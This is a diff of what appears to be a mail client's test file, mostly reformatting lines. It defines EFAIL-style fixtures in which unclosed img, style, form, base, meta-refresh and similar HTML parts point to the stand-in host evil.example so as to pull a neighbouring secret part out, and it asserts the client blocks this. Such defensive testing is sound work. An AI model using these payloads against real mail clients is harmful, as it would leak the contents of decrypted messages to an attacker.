@@ -39,22 +39,36 @@ const withPicture = () =>
   entity(
     'multipart/related; boundary=b',
     part('text/html', newsletter) +
-      `--b\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <logo>\r\nContent-Disposition: inline\r\n\r\n${logo}\r\n--b--\r\n`,
+      '--b\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <logo>\r\n' +
+      `Content-Disposition: inline\r\n\r\n${logo}\r\n--b--\r\n`,
   );
 
 /** EFAIL's direct exfiltration: markup of one part that would swallow the next one and carry it away. */
 const efail: Record<string, () => string> = {
   'an unclosed picture before the text': () =>
     multipart(part('text/html', '<img src="https://evil.example/?'), part('text/plain', secret), part('text/html', '">')),
-  'single quotes': () => multipart(part('text/html', `<img src='https://evil.example/?`), part('text/html', secret), part('text/html', `'>`)),
+  'single quotes': () =>
+    multipart(part('text/html', `<img src='https://evil.example/?`), part('text/html', secret), part('text/html', `'>`)),
   'a style': () =>
-    multipart(part('text/html', '<style>body { background: url(https://evil.example/?'), part('text/html', secret), part('text/html', ')}</style>')),
+    multipart(
+      part('text/html', '<style>body { background: url(https://evil.example/?'),
+      part('text/html', secret),
+      part('text/html', ')}</style>'),
+    ),
   'a form': () =>
-    multipart(part('text/html', '<form action="https://evil.example/"><textarea name="a">'), part('text/html', secret), part('text/html', '<input type=submit>')),
+    multipart(
+      part('text/html', '<form action="https://evil.example/"><textarea name="a">'),
+      part('text/html', secret),
+      part('text/html', '<input type=submit>'),
+    ),
   'a base and a link': () =>
     multipart(part('text/html', '<base href="https://evil.example/'), part('text/html', secret), part('text/html', '"><a href="x">y</a>')),
   'a refresh': () =>
-    multipart(part('text/html', '<meta http-equiv="refresh" content="0;url=https://evil.example/?'), part('text/html', secret), part('text/html', '">')),
+    multipart(
+      part('text/html', '<meta http-equiv="refresh" content="0;url=https://evil.example/?'),
+      part('text/html', secret),
+      part('text/html', '">'),
+    ),
   'an encrypted part joined': () =>
     multipart(
       part('text/html', '<img src="https://evil.example/?'),
@@ -67,8 +81,9 @@ const efail: Record<string, () => string> = {
     multipart(
       part(
         'text/html',
-        '<video poster="https://evil.example/v"></video><img srcset="https://evil.example/s 1x"><table background="https://evil.example/b">' +
-          '<link rel="dns-prefetch" href="//evil.example"><link rel="stylesheet" href="https://evil.example/c"><object data="https://evil.example/o"></object>',
+        '<video poster="https://evil.example/v"></video><img srcset="https://evil.example/s 1x">' +
+          '<table background="https://evil.example/b"><link rel="dns-prefetch" href="//evil.example">' +
+          '<link rel="stylesheet" href="https://evil.example/c"><object data="https://evil.example/o"></object>',
       ),
       part('text/plain', secret),
     ),
@@ -146,9 +161,15 @@ async function htmlMails(stage: Stage): Promise<void> {
       assert.ok(!parts.includes('evil.example'), `${name}: an address of the attacker's is shown`);
       const inside = await walker.page.evaluate(() => {
         const { body } = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')!.contentDocument!;
-        return [...body.children].flatMap((host) => [...(host.shadowRoot?.querySelectorAll('*') ?? [])]).map((one) => one.cloneNode(false) as Element).map((one) => one.outerHTML);
+        return [...body.children]
+          .flatMap((host) => [...(host.shadowRoot?.querySelectorAll('*') ?? [])])
+          .map((one) => one.cloneNode(false) as Element)
+          .map((one) => one.outerHTML);
       });
-      assert.ok(!inside.some((html) => html.includes('SECRET')), `${name}: one part's markup holds another part's text: ${inside.join(' ')}`);
+      assert.ok(
+        !inside.some((html) => html.includes('SECRET')),
+        `${name}: one part's markup holds another part's text: ${inside.join(' ')}`,
+      );
       walker.assertNoFaults(name);
     }
   }
